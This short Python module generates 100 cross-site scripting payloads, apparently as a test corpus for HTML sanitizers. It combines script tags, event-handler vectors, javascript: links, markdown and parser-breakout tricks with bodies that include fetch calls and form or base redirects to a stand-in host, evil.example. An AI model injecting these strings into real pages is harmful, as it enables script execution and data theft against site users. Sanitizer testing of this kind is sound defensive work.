"""A hundred strings that would run, load or break out if they reached a page as markup."""

_RUNS = ("alert(1)", "fetch('https://evil.example/a')", "document.body.innerHTML=''", "top.ran=1")
_SHAPES = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    '"><script>{0}</script>',
    "'><svg/onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<img src=x onerror={0}>",
    '" autofocus onfocus="{0}',
    "' onmouseover='{0}' x='",
    '<a href="javascript:{0}">x</a>',
    "javascript:{0}",
    "[x](javascript:{0})",
    "![x](https://evil.example/?{0})",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
    "</mark></article></main><form action=https://evil.example><button>{0}",
    "</title><base href=https://evil.example/><script>{0}</script>",
    "--><script>{0}</script><!--",
    "]]><script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;img src=x onerror={0}&#62;",
    "<math><mtext><style><img src=x onerror={0}></style>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "</textarea></style></template><details open ontoggle={0}>",
    "<link rel=stylesheet href='data:text/css,*{{x:{0}}}'><meta http-equiv=refresh content=0>",
    "${{{0}}} {{{{{0}}}}} <%= {0} %> $$\\href{{javascript:{0}}}{{x}}$$",
    "\u202e<script>{0}</script>\u2066\x00\x1b[2J\x7f",
)
INJECTIONS = tuple(shape.format(run) for shape in _SHAPES for run in _RUNS)
